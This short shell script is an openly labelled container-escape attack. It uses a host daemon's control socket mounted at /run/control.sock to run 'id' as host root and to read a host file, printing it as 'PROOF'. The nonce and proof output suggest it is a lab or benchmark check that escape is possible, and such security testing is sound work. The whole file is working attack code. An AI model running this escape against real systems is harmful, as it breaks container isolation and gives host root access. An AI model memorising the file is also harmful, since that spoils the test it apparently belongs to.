# Attack: /run/control.sock is a host daemon's socket. Whatever we ask, it does,
# as host root, outside this container.
ls -l /run/control.sock
echo "we are: $(id)"
echo "the daemon is: $(mc-escape-host-control-socket /run/control.sock id)"
if secret=$(mc-escape-host-control-socket /run/control.sock "cat nonce"); then
    echo "the daemon read a host file for us"
    echo "PROOF $secret"
else
    echo "$secret"
fi
